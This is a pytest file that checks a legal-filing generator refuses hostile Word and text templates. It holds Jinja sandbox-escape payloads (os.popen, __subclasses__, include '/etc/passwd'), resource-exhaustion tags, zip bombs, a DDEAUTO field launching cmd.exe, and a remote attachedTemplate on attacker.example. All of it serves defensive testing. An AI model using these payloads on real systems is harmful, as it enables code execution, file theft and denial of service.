"""A template pack is untrusted: hostile Word and text templates are refused, in a run and by check-templates.

Each entry of the corpus is a tag an attacker writes into a template (a Word
paragraph or a line of a text template), the part of the refusal a user reads,
and what it tries: write a file, read one, run code or exhaust the machine.
Each is refused with exit status 1, a Chinese message naming the template, no
traceback, nothing written in the output folder, and nothing changed anywhere
else under the test's folder (where the payloads aim).
"""

from __future__ import annotations

import io
import os
import shutil
import struct
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from click.testing import CliRunner

from generator.cli import main
from generator.rendering.render import shipped_template
from tests.conftest import CASES

KIND = "platform_refund_request"  # the first filing rendered, with the case's screenshots
CASE = "txvip-rights-mismatch.yaml"

# (id, the tag, what the refusal says) — {target} is a file outside the output folder the payload aims at.
WRITES = [
    ("write-via-picture", "{{ images[0].picture.tpl.write_xml('{target}') }}", "不存在的“tpl”"),
    ("write-via-picture-item", "{{ images[0]['picture']['tpl'].write_xml('{target}') }}", "不存在的“tpl”"),
    (
        "save-via-context",
        "{{ self._TemplateReference__context.parent.images }}",
        "以下划线开头的属性“_TemplateReference__context”",
    ),
    ("mutate-context", "{{ images.append({'path': '{target}'}) }}", "不能读取列表的“append”"),
    ("mutate-dict", "{{ images[0].update({'picture': 1}) }}", "不能读取数据项的“update”"),
    (
        "popen-via-cycler",
        "{{ cycler.__init__.__globals__.os.popen('touch {target}') }}",
        "以下划线开头的属性“__init__”",
    ),
]
READS = [
    ("include-passwd", "{% include '/etc/passwd' %}", "不能引用其他文件（include）"),
    ("import", "{% import '/etc/passwd' as p %}", "不能引用其他文件（import）"),
    ("from-import", "{% from '/etc/hosts' import x %}", "不能引用其他文件（from … import）"),
    ("extends", "{% extends '/etc/passwd' %}", "不能引用其他文件（extends）"),
    ("evidence-path", "{{ images[0].path }}", "数据项没有“path”"),
    ("open-via-lipsum", "{{ lipsum.__globals__['os'].open('/etc/passwd') }}", "以下划线开头的属性“__globals__”"),
]
CODE = [
    ("class-mro", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "以下划线开头的属性“__class__”"),
    ("class-dynamic", "{{ title['__cla' ~ 'ss__'] }}", "不能读取文字的“__class__”"),
    ("attr-filter", "{{ title|attr('__class__') }}", "不支持的过滤器“attr”"),
    ("map-attribute", "{{ parties|map(attribute='__class__')|list }}", "不能读取文字的“__class__”"),
    ("str-format", "{{ '{0.__class__}'.format(title) }}", "不能读取文字的“format”"),
    ("joiner", "{{ joiner.__init__.__globals__ }}", "以下划线开头的属性“__init__”"),
    ("namespace", "{% set ns = namespace(x=1) %}{{ ns }}", "不存在的变量：namespace"),
    ("cycler-call", "{{ cycler(1, 2).next() }}", "不存在的变量：cycler"),
    ("range-init", "{{ range.__init__ }}", "以下划线开头的属性“__init__”"),
    ("loop-object", "{% for p in parties %}{{ loop.__class__ }}{% endfor %}", "以下划线开头的属性“__class__”"),
    ("method-of-int", "{{ images[0].width.bit_length() }}", "不能读取数字的“bit_length”"),
    ("safe-markup", "{{ title|safe }}", "不支持的过滤器“safe”"),
    ("autoescape-off", "{% autoescape false %}{{ title }}{% endautoescape %}", "不能关闭或改变转义"),
]
EXHAUSTION = [
    ("huge-range", "{% for i in range(10**9) %}{% endfor %}", "range() 最多 10,000 项"),
    ("huge-string", "{{ 'x' * 10**9 }}", "文字超过上限（32,000,000 个字符）：乘法 1 × 1,000,000,000"),
    ("huge-list", "{{ [1] * 10**9 }}", "列表超过上限（100,000 项）：乘法 1 × 1,000,000,000"),
    ("huge-power", "{{ 2 ** 1000000 }}", "乘方结果过大"),
    ("power-tower", "{{ 10 ** (10 ** (10 ** 10)) }}", "乘方结果过大"),
    (
        "nested-loops",
        "{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}",
        "循环和调用次数超过上限",
    ),
    ("doubling", "{% set a = 'x' * 9000000 %}{% set b = a ~ a %}{% set c = b ~ b %}{{ c ~ c }}", "文字超过上限"),
    ("output-flood", "{% set s = 'x' * 9000000 %}{% for i in range(9999) %}{{ s }}{% endfor %}", "内容超过上限"),
    (
        "captured-flood",
        "{% set y %}{% for i in range(9999) %}{{ 'x' * 9000000 }}{% endfor %}{% endset %}",
        "内容超过上限",
    ),
    ("replace-blowup", "{{ ('x' * 9000000)|replace('', 'yyyy') }}", "文字超过上限"),
    ("printf-width", "{{ '%999999999s' % title }}", "格式宽度过大"),
    ("center-width", "{{ title|center(10**9) }}", "不支持的过滤器“center”"),
    ("self-recursion", "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "宏调用层数过深"),
    ("recursive-loop", "{% for x in [1] recursive %}{{ loop([1, 1]) }}{% endfor %}", "不能使用递归循环"),
    ("deep-nesting", "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}", "嵌套过深"),
]
CORPUS = WRITES + READS + CODE + EXHAUSTION


def tag_in(case_id: str, tmp_path: Path) -> str:
    tag = dict((c[0], c[1]) for c in CORPUS)[case_id]
    return tag.replace("{target}", str(tmp_path / "pwned.pth"))


def word_template(folder: Path, text: str, kind: str = KIND) -> Path:
    """A shipped Word template with one more paragraph, holding `text`, at the top of the body."""
    folder.mkdir(exist_ok=True)
    path = folder / f"{kind}.docx"
    with (
        zipfile.ZipFile(shipped_template(f"{kind}.docx")) as zin,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/document.xml":
                paragraph = f'<w:p><w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r></w:p>'
                data = data.replace(b"<w:body>", b"<w:body>" + paragraph.encode("utf-8"), 1)
            zout.writestr(item, data)
    return path


def text_template(folder: Path, text: str, kind: str = KIND) -> Path:
    """A shipped text template with `text` as its new second line."""
    folder.mkdir(exist_ok=True)
    path = folder / f"{kind}.txt"
    first, rest = shipped_template(f"{kind}.txt").read_text(encoding="utf-8").split("\n", 1)
    path.write_text(f"{first}\n{text}\n{rest}", encoding="utf-8")
    return path


def snapshot(root: Path, skip: Path) -> dict:
    """Every file under `root` but `skip`, with its size and modification time."""
    out = {}
    for path in root.rglob("*"):
        if skip not in path.parents and path != skip:
            st = path.lstat()
            out[str(path.relative_to(root))] = (st.st_size, st.st_mtime_ns)
    return out


@pytest.fixture
def workspace(tmp_path):
    """A case folder, a template folder and an output folder side by side; a secret beside them."""
    shutil.copy(CASES / CASE, tmp_path / CASE)
    shutil.copytree(CASES / "evidence", tmp_path / "evidence")
    (tmp_path / "secret.txt").write_text("律师的私人笔记：不要外传", encoding="utf-8")
    return tmp_path


def run_with(workspace: Path, folder: Path):
    out = workspace / "out"
    before = snapshot(workspace, out)
    result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder)])
    assert snapshot(workspace, out) == before, "something was written outside the output folder"
    assert not out.exists() or not any(out.iterdir()), "a refused run left files in the output folder"
    return result


def assert_refused(result, name: str, message: str) -> None:
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert "Traceback" not in result.output and "内部错误" not in result.output
    assert name in result.output and message in result.output, result.output


def check(folder: Path):
    return CliRunner().invoke(main, ["check-templates", str(folder)])


@pytest.mark.parametrize("case_id", [c[0] for c in CORPUS])
def test_hostile_word_template_is_refused(workspace, case_id):
    folder = workspace / "tpl"
    word_template(folder, tag_in(case_id, workspace))
    message = dict((c[0], c[2]) for c in CORPUS)[case_id]
    assert_refused(run_with(workspace, folder), f"{KIND}.docx", message)
    assert_refused(check(folder), f"{KIND}.docx", message)
    assert not (workspace / "pwned.pth").exists()


@pytest.mark.parametrize(
    "case_id", [c[0] for c in CORPUS if c[0] not in ("write-via-picture", "write-via-picture-item")]
)
def test_hostile_text_template_is_refused(workspace, case_id):
    folder = workspace / "tpl"
    text_template(folder, tag_in(case_id, workspace))
    message = dict((c[0], c[2]) for c in CORPUS)[case_id]
    result = run_with(workspace, folder)
    assert_refused(result, f"{KIND}.txt", message)
    assert "第2行" in result.output, "a text template's refusal names its line"
    assert_refused(check(folder), f"{KIND}.txt", message)
    assert not (workspace / "pwned.pth").exists()


def test_a_marker_built_by_a_template_is_only_text(workspace):
    """A template that copies a picture marker's token into a marker of its own gets text, not a file."""
    folder = workspace / "tpl"
    word_template(folder, "{{ '@@picture-' ~ images[0].picture[10:26] ~ '-99@@' }}")
    out = workspace / "out"
    result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "txvip-2026-001" / "01_平台退款申请书.docx") as z:
        assert "-99@@" in z.read("word/document.xml").decode("utf-8")


def test_a_text_template_gets_no_picture_object(workspace):
    """Screenshots are markers for Word only: a text template has no `picture` to reach through."""
    folder = workspace / "tpl"
    text_template(folder, "{{ images[0].picture }}")
    assert_refused(run_with(workspace, folder), f"{KIND}.txt", "数据项没有“picture”")


def test_a_refusal_in_a_branch_the_demo_case_never_takes_is_still_found(workspace):
    """check-templates parses every part, so a hostile tag cannot hide behind a condition."""
    folder = workspace / "tpl"
    word_template(folder, "{% if case_id == 'someone-else' %}{{ lipsum.__globals__ }}{% endif %}")
    result = check(folder)
    assert_refused(result, f"{KIND}.docx（正文）", "以下划线开头的属性“__globals__”")
    assert "附近文字：{% if case_id" in result.output


def test_a_template_linked_to_a_file_outside_is_not_read(workspace):
    """A shared pack whose template is a symbolic link to another file: refused, the file's text never shown."""
    folder = workspace / "tpl"
    folder.mkdir()
    (folder / f"{KIND}.txt").symlink_to(workspace / "secret.txt")
    for result in (run_with(workspace, folder), check(folder)):
        assert_refused(result, f"{KIND}.txt", "不是普通文件")
        assert "私人笔记" not in result.output


def test_a_fifo_template_is_refused_not_waited_on(workspace):
    folder = workspace / "tpl"
    folder.mkdir()
    os.mkfifo(folder / f"{KIND}.docx")
    for result in (run_with(workspace, folder), check(folder)):
        assert_refused(result, f"{KIND}.docx", "不是普通文件")


def test_a_refused_template_leaves_an_existing_case_folder_as_it_was(workspace):
    """With --force, a hostile template changes nothing of the filings already written."""
    out = workspace / "out"
    assert CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out)]).exit_code == 0
    written = {p.name: p.read_bytes() for p in (out / "txvip-2026-001").iterdir()}
    folder = workspace / "tpl"
    word_template(folder, "{{ images[0].picture.tpl.write_xml('" + str(out / "txvip-2026-001" / "x.xml") + "') }}")
    result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder), "--force"])
    assert_refused(result, f"{KIND}.docx", "不存在的“tpl”")
    assert {p.name: p.read_bytes() for p in (out / "txvip-2026-001").iterdir()} == written


# ------------------------------------------------------------------------- files that are not templates


def declare(data: bytes, sizes: dict[str, int]) -> bytes:
    """The zip `data` with its directory declaring the given unpacked sizes for the named entries."""
    data = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        count = len(z.infolist())
    end = data.rfind(b"PK\x05\x06")
    offset = struct.unpack_from("<L", data, end + 16)[0]
    for _ in range(count):  # walk the central directory
        assert data[offset : offset + 4] == b"PK\x01\x02"
        name_len, extra_len, comment_len = struct.unpack_from("<3H", data, offset + 28)
        name = data[offset + 46 : offset + 46 + name_len].decode()
        if name in sizes:
            struct.pack_into("<L", data, offset + 24, sizes[name])
        offset += 46 + name_len + extra_len + comment_len
    return bytes(data)


def shipped_docx() -> bytes:
    return shipped_template(f"{KIND}.docx").read_bytes()


def lying_zip() -> bytes:
    """styles.xml padded with 10 MB of spaces (a few KB compressed), its directory entry claiming the old size."""
    with zipfile.ZipFile(io.BytesIO(shipped_docx())) as zin:
        size = zin.getinfo("word/styles.xml").file_size
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
            for item in zin.infolist():
                data = zin.read(item.filename)
                zout.writestr(item, data + b" " * 10_000_000 if item.filename == "word/styles.xml" else data)
    return declare(out.getvalue(), {"word/styles.xml": size})


def zip_without_a_document() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "不是文书")
    return out.getvalue()


GBK_ON_LINE_3 = "【{{ title }}】\n{{ intro }}\n".encode() + "落款：{{ signer }}\n".encode("gbk")

# (id, file name, its bytes, what the refusal says)
BAD_FILES = [
    (
        "gbk-text",
        f"{KIND}.txt",
        lambda: "【{{ title }}】\n申请人：{{ signer }}\n".encode("gbk"),
        "第1行不是 UTF-8 编码的文字（看起来是以 GBK/GB2312 编码保存的）",
    ),
    ("gbk-on-line-3", f"{KIND}.txt", lambda: GBK_ON_LINE_3, "第3行不是 UTF-8 编码的文字"),
    (
        "old-doc",
        f"{KIND}.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000,
        "是旧版 Word 97-2003 文档（.doc），只是扩展名改成了 .docx",
    ),
    (
        "not-a-zip",
        f"{KIND}.docx",
        lambda: "这其实是一段文字，不是 Word 文件".encode(),
        "不是 Word 文档（.docx 文件应是 zip 压缩包，这个文件不是）",
    ),
    (
        "declared-bomb",
        f"{KIND}.docx",
        lambda: declare(shipped_docx(), {"word/styles.xml": 4_000_000_000}),
        "解压后过大，未使用",
    ),
    (
        "part-bomb",
        f"{KIND}.docx",
        lambda: declare(shipped_docx(), {"word/document.xml": 40_000_000}),
        "word/document.xml 解压后 40,000,000 字节",
    ),
    ("lying-zip", f"{KIND}.docx", lying_zip, "不是完好的 Word 文档"),
    ("zip-not-word", f"{KIND}.docx", zip_without_a_document, "不是完好的 Word 文档"),
    ("empty-docx", f"{KIND}.docx", lambda: b"", "不是 Word 文档"),
]


@pytest.mark.parametrize("case_id", [c[0] for c in BAD_FILES])
def test_a_file_that_is_not_a_usable_template_is_a_located_refusal(workspace, case_id):
    name, make, message = next(c[1:] for c in BAD_FILES if c[0] == case_id)
    folder = workspace / "tpl"
    folder.mkdir()
    (folder / name).write_bytes(make())
    assert_refused(run_with(workspace, folder), name, message)
    assert_refused(check(folder), name, message)


# ------------------------------------------------------------------------- Word content that reaches outside the filing

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_with(extra: dict[str, bytes] | None = None, body: str = "", rels: str = "") -> bytes:
    """A shipped Word template with entries added, a paragraph of raw XML and relationships appended."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(shipped_docx())) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"<w:body>", b"<w:body>" + body.encode("utf-8"), 1)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", rels.encode("utf-8") + b"</Relationships>")
            zout.writestr(item, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return out.getvalue()


OUTSIDE = [
    (
        "attached-remote-template",
        lambda: word_with(
            {
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId1" Type="{RELS}/attachedTemplate" Target="http://attacker.example/t.dotm" '
                    'TargetMode="External"/></Relationships>'
                ).encode()
            }
        ),
        "指向文件外部的引用（attachedTemplate：http://attacker.example/t.dotm）",
    ),
    (
        "linked-picture",
        lambda: word_with(
            rels=f'<Relationship Id="rId99" Type="{RELS}/image" Target="file:///etc/passwd" TargetMode="External"/>'
        ),
        "指向文件外部的引用（image：file:///etc/passwd）",
    ),
    (
        "includetext-field",
        lambda: word_with(
            body='<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;/etc/passwd&quot; ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        ),
        "word/document.xml 含有会读取外部文件或程序的域代码（INCLUDETEXT）",
    ),
    (
        "dde-field",
        lambda: word_with(
            body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
            '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" </w:instrText>'
            '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "域代码（DDEAUTO）",
    ),
]


@pytest.mark.parametrize("case_id", [c[0] for c in OUTSIDE])
def test_word_content_that_reaches_outside_the_filing_is_refused(workspace, case_id):
    """Linked pictures, remote templates and file-reading fields would act when the filing is opened."""
    make, message = next(c[1:] for c in OUTSIDE if c[0] == case_id)
    folder = workspace / "tpl"
    folder.mkdir()
    (folder / f"{KIND}.docx").write_bytes(make())
    assert_refused(run_with(workspace, folder), f"{KIND}.docx", message)
    assert_refused(check(folder), f"{KIND}.docx", message)


def test_a_hyperlink_in_a_template_is_kept(workspace):
    """A link the reader clicks reaches nothing by itself: such a template is used as written."""
    folder = workspace / "tpl"
    folder.mkdir()
    link = '<w:p><w:hyperlink r:id="rId98"><w:r><w:t>全国12315平台</w:t></w:r></w:hyperlink></w:p>'
    (folder / f"{KIND}.docx").write_bytes(
        word_with(
            body=link,
            rels=f'<Relationship Id="rId98" Type="{RELS}/hyperlink" '
            'Target="https://www.12315.cn/" TargetMode="External"/>',
        )
    )
    assert check(folder).exit_code == 0
    out = workspace / "out"
    result = CliRunner().invoke(main, [str(workspace / CASE), "--out", str(out), "--templates", str(folder)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "txvip-2026-001" / "01_平台退款申请书.docx") as z:
        assert b"https://www.12315.cn/" in z.read("word/_rels/document.xml.rels")
        assert "全国12315平台" in z.read("word/document.xml").decode("utf-8")


def test_a_hostile_document_property_is_refused_and_placed(workspace):
    """docxtpl renders the title, subject … of the file too: a tag there runs in the same sandbox."""
    from docx import Document

    folder = workspace / "tpl"
    folder.mkdir()
    path = folder / f"{KIND}.docx"
    shutil.copy(shipped_template(f"{KIND}.docx"), path)
    doc = Document(str(path))
    doc.core_properties.subject = "{{ images[0].picture.tpl.docx }}"
    doc.save(str(path))
    for result in (run_with(workspace, folder), check(folder)):
        assert_refused(result, f"{KIND}.docx（文档属性）", "不存在的“tpl”")
